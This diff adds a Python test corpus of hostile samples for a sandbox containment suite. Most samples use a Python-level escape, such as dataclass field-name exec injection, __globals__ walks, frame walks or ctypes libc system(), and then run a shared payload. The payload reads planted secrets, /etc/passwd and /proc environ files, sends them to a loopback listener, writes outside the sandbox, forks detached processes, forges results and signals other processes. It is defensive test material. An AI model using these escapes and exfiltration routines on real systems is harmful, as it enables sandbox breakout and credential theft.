@@ -1,0 +1,406 @@
+"""Hostile modules that reach the real ``os`` module through Python-level tricks and then try to do
+damage the OS layer must contain: read planted secrets, write outside the sandbox, connect to the
+parent's loopback listener, leave a detached process behind, forge results for other environments.
+
+Each sample gets the probe arguments (see :mod:`.containment`): ``canary`` (a path in the parent's
+temporary directory that must stay absent), ``secrets`` (paths of files holding planted secrets,
+plus ``/etc/passwd``), ``port`` (a loopback listener of the parent), ``marker`` (a token a process
+left behind would carry). The payload (``_damage``) tries every kind of damage with whatever it
+reached and returns what it got, so a secret that leaks shows in the tool output.
+
+Expected outcome :data:`.samples.OS_CONTAINED`: any stage may stop it or it may "succeed"; what
+counts is that every probe stays clean. Where the trick is also stopped by the Python layer (static
+check, restricted builtins) that is a bonus, not the claim.
+"""
+
+from __future__ import annotations
+
+from envfactory_assets.runtime.hostile.samples import (
+    CANARY,
+    SAMPLES,
+    MARKER,
+    OS_CONTAINED,
+    PORT,
+    SECRETS,
+    HostileSample,
+    environment,
+)
+
+# The damage any sample attempts once it holds a function that imports modules (``get``).
+_DAMAGE = '''
+
+def _damage(get, canary, secrets, port, marker):
+    report = {}
+    opener = get("builtins").open
+    for path in [*secrets, "/etc/passwd"]:
+        try:
+            with opener(path, "r", errors="replace") as handle:
+                report[path] = handle.read(4096)
+        except Exception as exc:
+            report[path] = "refused: " + type(exc).__name__
+    try:
+        with opener(canary, "w") as handle:
+            handle.write("escaped")
+        report["wrote"] = canary
+    except Exception as exc:
+        report["wrote"] = "refused: " + type(exc).__name__
+    try:
+        sock = get("socket").create_connection(("127.0.0.1", port), timeout=1)
+        sock.sendall(repr(report).encode())
+        sock.close()
+        report["connected"] = True
+    except Exception as exc:
+        report["connected"] = "refused: " + type(exc).__name__
+    try:
+        os_module = get("os")
+        report["system"] = os_module.system("id > " + canary + ".id")
+    except Exception as exc:
+        report["system"] = "refused: " + type(exc).__name__
+    try:
+        os_module = get("os")
+        sys_module = get("sys")
+        if os_module.fork() == 0:
+            os_module.setsid()
+            if os_module.fork() == 0:
+                os_module.execv(sys_module.executable,
+                                [sys_module.executable, "-c", "import time; time.sleep(60)", marker])
+            os_module._exit(0)
+        report["detached"] = True
+    except Exception as exc:
+        report["detached"] = "refused: " + type(exc).__name__
+    return report
+'''
+
+_PROBE_ARGS = {"canary": CANARY, "secrets": SECRETS, "port": PORT, "marker": MARKER}
+
+
+def _os_sample(name: str, category: str, description: str, body: str, *, imports: str = "",
+               stage: str = "call", contract: str | None = None, probe_sensitive: bool = True) -> HostileSample:
+    source = environment(_DAMAGE + "\n\n" + body.strip(), imports=imports,
+                         **({"contract": contract} if contract is not None else {}))
+    return HostileSample(name, category, description, OS_CONTAINED, source, stage=stage,
+                         arguments=dict(_PROBE_ARGS) if stage in ("call",) else {}, probe_sensitive=probe_sensitive)
+
+
+OS_SAMPLES: list[HostileSample] = [
+    _os_sample(
+        "dataclass_field_exec",
+        "code generation",
+        "renames a dataclasses.Field so that dataclasses' generated __eq__ exec's attacker text with the "
+        "real builtins (the escape of the Python layer reported against this project)",
+        '''
+def attack(state, canary, secrets, port, marker):
+    @dataclasses.dataclass
+    class Base:
+        a: int = 0
+    dataclasses.fields(Base)[0].name = "a,exec(self.p))#"
+
+    @dataclasses.dataclass(init=False, repr=False)
+    class Child(Base):
+        """x"""
+    child = Child()
+    child.run = _damage
+    child.args = (canary, secrets, port, marker)
+    child.p = "import builtins as b; self.out = self.run(b.__import__, *self.args)"
+    child == Child()
+    return {"report": getattr(child, "out", None)}
+''',
+        imports="import dataclasses",
+    ),
+    _os_sample(
+        "dataclass_field_exec_at_load",
+        "code generation",
+        "the same dataclasses trick at module level, so it runs while the module loads, before any tool",
+        '''
+def attack(state):
+    return {}
+
+
+@dataclasses.dataclass
+class _Base:
+    a: int = 0
+
+
+dataclasses.fields(_Base)[0].name = "a,exec(self.p))#"
+
+
+@dataclasses.dataclass(init=False, repr=False)
+class _Child(_Base):
+    """x"""
+
+
+_child = _Child()
+_child.run = _damage
+_child.args = (__CANARY__, __SECRETS__, __PORT__, __MARKER__)
+_child.p = "import builtins as b; self.out = self.run(b.__import__, *self.args)"
+_child == _Child()
+''',
+        imports="import dataclasses",
+        stage="module",
+    ),
+    _os_sample(
+        "namedtuple_globals",
+        "code generation",
+        "collections.namedtuple is a Python function: its __globals__ hold the real sys, whose modules "
+        "hold os",
+        '''
+def attack(state, canary, secrets, port, marker):
+    real_sys = collections.namedtuple.__globals__["_sys"]
+    return {"report": _damage(lambda n: real_sys.modules.get(n) or __import__(n), canary, secrets, port, marker)}
+''',
+        imports="import collections",
+    ),
+    _os_sample(
+        "enum_metaclass_globals",
+        "code generation",
+        "enum's metaclass __call__ is a Python function whose module imports sys: walk to sys.modules",
+        '''
+def attack(state, canary, secrets, port, marker):
+    real_sys = type(enum.Enum).__call__.__globals__["sys"]
+    return {"report": _damage(lambda n: real_sys.modules.get(n) or __import__(n), canary, secrets, port, marker)}
+''',
+        imports="import enum",
+    ),
+    _os_sample(
+        "formatter_get_field_walk",
+        "format-string walk",
+        "string.Formatter().get_field resolves '0.__globals__' to the object itself, not its text",
+        '''
+def attack(state, canary, secrets, port, marker):
+    field, _ = string.Formatter().get_field("0.__globals__", (string.capwords,), {})
+    real_builtins = field["__builtins__"]
+    return {"report": _damage(real_builtins["__import__"], canary, secrets, port, marker)}
+''',
+        imports="import string",
+    ),
+    _os_sample(
+        "format_globals_text",
+        "format-string walk",
+        "renders '{0.__globals__}' of a library function to find what is reachable (leaks text only)",
+        '''
+def attack(state, canary, secrets, port, marker):
+    text = "{0.__globals__}".format(json.dumps)
+    return {"text": text[:2000], "report": _damage(__import__, canary, secrets, port, marker)}
+''',
+        imports="import json",
+    ),
+    _os_sample(
+        "traceback_frame_walk_to_engine",
+        "frame walk",
+        "catches its own exception and walks __traceback__.tb_frame.f_back to the worker engine's globals",
+        '''
+def attack(state, canary, secrets, port, marker):
+    try:
+        raise ValueError("walk")
+    except ValueError as exc:
+        frame = exc.__traceback__.tb_frame
+    while frame is not None and "os" not in frame.f_globals:
+        frame = frame.f_back
+    engine_globals = frame.f_globals if frame is not None else {}
+    real_os = engine_globals.get("os")
+    get = (lambda n: real_os if n == "os" else __import__(n))
+    return {"report": _damage(get, canary, secrets, port, marker)}
+''',
+    ),
+    _os_sample(
+        "patch_allowed_module_class",
+        "cross-environment tampering",
+        "patches json.JSONEncoder and the engine's output encoder so that later calls of other "
+        "environments in the same interpreter would return forged results",
+        '''
+def attack(state, canary, secrets, port, marker):
+    json.JSONEncoder.encode = lambda self, value: '{"forged": true}'
+    try:
+        raise ValueError("walk")
+    except ValueError as exc:
+        frame = exc.__traceback__.tb_frame
+    while frame is not None and "_encode_json" not in frame.f_globals:
+        frame = frame.f_back
+    if frame is not None:
+        frame.f_globals["_encode_json"] = lambda value: b'{"echo": "forged", "pings": 1}'
+    return {"report": _damage(__import__, canary, secrets, port, marker)}
+''',
+        imports="import json",
+    ),
+    _os_sample(
+        "gc_finalizer_fires_later",
+        "delayed payload",
+        "hides the payload in __del__ of a reference cycle, so it fires at a later garbage collection",
+        '''
+class _Later:
+    def __init__(self, args):
+        self.me = self
+        self.args = args
+
+    def __del__(self):
+        _damage(__import__, *self.args)
+
+
+def attack(state, canary, secrets, port, marker):
+    _Later((canary, secrets, port, marker))
+    gc.collect()
+    return {"planted": True}
+''',
+        imports="import gc",
+    ),
+    _os_sample(
+        "weakref_finalize_at_exit",
+        "delayed payload",
+        "registers the payload with weakref.finalize so it runs when the worker exits (workers are "
+        "SIGKILLed when closed, so it never runs: not part of the negative control)",
+        '''
+class _Anchor:
+    pass
+
+
+_ANCHORS = []
+
+
+def attack(state, canary, secrets, port, marker):
+    anchor = _Anchor()
+    _ANCHORS.append(anchor)
+    weakref.finalize(anchor, _damage, __import__, canary, secrets, port, marker)
+    return {"planted": True}
+''',
+        imports="import weakref",
+        probe_sensitive=False,
+    ),
+    _os_sample(
+        "id_and_hash_nondeterminism",
+        "non-determinism",
+        "returns id() and str hashes (they change per process), and tries the damage payload",
+        '''
+def attack(state, canary, secrets, port, marker):
+    return {"id": id(object()), "hash": hash("seed"), "report": _damage(__import__, canary, secrets, port, marker)}
+''',
+    ),
+    _os_sample(
+        "forged_frames_on_protocol_fd",
+        "protocol forgery",
+        "writes forged success frames straight into every open descriptor, the protocol's included "
+        "(the parent kills the worker at the first frame that does not answer its request, before any "
+        "other damage: not part of the negative control)",
+        '''
+def attack(state, canary, secrets, port, marker):
+    os_module = __import__("os")
+    body = json.dumps({"id": 1, "ok": True, "result": {"ok": True, "output": {"echo": "forged"}}}).encode()
+    frame = len(body).to_bytes(4, "big") + body
+    for fd in range(3, 64):
+        try:
+            os_module.write(fd, frame)
+        except OSError:
+            pass
+    return {"report": _damage(__import__, canary, secrets, port, marker)}
+''',
+        imports="import json",
+        probe_sensitive=False,
+    ),
+    _os_sample(
+        "detached_grandchild",
+        "detached children",
+        "double-forks and setsid()s a sleeper that outlives the worker, then returns normally",
+        '''
+def attack(state, canary, secrets, port, marker):
+    return {"report": _damage(__import__, canary, secrets, port, marker)}
+''',
+    ),
+    _os_sample(
+        "read_parent_environment",
+        "file access",
+        "reads /proc/<parent>/environ and /proc/1/environ, where the pipeline's secrets live",
+        '''
+def attack(state, canary, secrets, port, marker):
+    os_module = __import__("os")
+    found = {}
+    for pid in {os_module.getppid(), 1}:
+        try:
+            with open("/proc/%d/environ" % pid, "rb") as handle:
+                found[str(pid)] = handle.read().decode("latin-1")
+        except Exception as exc:
+            found[str(pid)] = "refused: " + type(exc).__name__
+    return {"environ": found, "report": _damage(__import__, canary, secrets, port, marker)}
+''',
+    ),
+    _os_sample(
+        "ctypes_libc_system",
+        "native code",
+        "calls libc's system() through ctypes, below anything Python could check",
+        '''
+def attack(state, canary, secrets, port, marker):
+    libc = ctypes.CDLL(None)
+    status = libc.system(("id > " + canary).encode())
+    return {"status": status, "report": _damage(__import__, canary, secrets, port, marker)}
+''',
+        imports="import ctypes",
+    ),
+    _os_sample(
+        "walk_filesystem_for_secrets",
+        "file access",
+        "walks every readable directory (home, the store, /etc, the repository) collecting file heads",
+        '''
+def attack(state, canary, secrets, port, marker):
+    report = _damage(__import__, canary, secrets, port, marker)
+    os_module = __import__("os")
+    seen = {}
+    roots = [os_module.path.dirname(p) for p in secrets] + ["/root", "/home", "/etc", "/work", "/"]
+    for root in roots:
+        try:
+            for directory, _, files in os_module.walk(root):
+                for name in files[:20]:
+                    path = os_module.path.join(directory, name)
+                    try:
+                        with open(path, "rb") as handle:
+                            seen[path] = handle.read(256).decode("latin-1")
+                    except Exception:
+                        pass
+                if len(seen) > 2000:
+                    break
+        except Exception:
+            pass
+    return {"files": seen, "report": report}
+''',
+    ),
+    _os_sample(
+        "symlink_out_of_tmp",
+        "file access",
+        "makes symlinks in its /tmp pointing at the canary and the secrets, then writes and reads through them",
+        '''
+def attack(state, canary, secrets, port, marker):
+    os_module = __import__("os")
+    got = {}
+    for index, target in enumerate([canary, *secrets]):
+        link = "/tmp/link%d" % index
+        try:
+            os_module.symlink(target, link)
+            if target == canary:  # write only where the probe looks; read the secrets
+                with open(link, "w") as handle:
+                    handle.write("escaped")
+            else:
+                with open(link) as handle:
+                    got[target] = handle.read(4096)
+        except Exception as exc:
+            got[target] = "refused: " + type(exc).__name__
+    return {"through_links": got, "report": _damage(__import__, canary, secrets, port, marker)}
+''',
+    ),
+    _os_sample(
+        "signal_other_processes",
+        "process tampering",
+        "sends signal 0 to every pid it can see and SIGSTOP to the ones it does not own",
+        '''
+def attack(state, canary, secrets, port, marker):
+    os_module = __import__("os")
+    visible = []
+    for pid in range(2, 4096):
+        try:
+            os_module.kill(pid, 0)
+            visible.append(pid)
+        except Exception:
+            pass
+    return {"visible": visible[:50], "report": _damage(__import__, canary, secrets, port, marker)}
+''',
+    ),
+]
+
+#: The whole hostile corpus: the Python-layer samples of :mod:`.samples` and the OS-layer ones above.
+CORPUS: tuple[HostileSample, ...] = (*SAMPLES, *OS_SAMPLES)
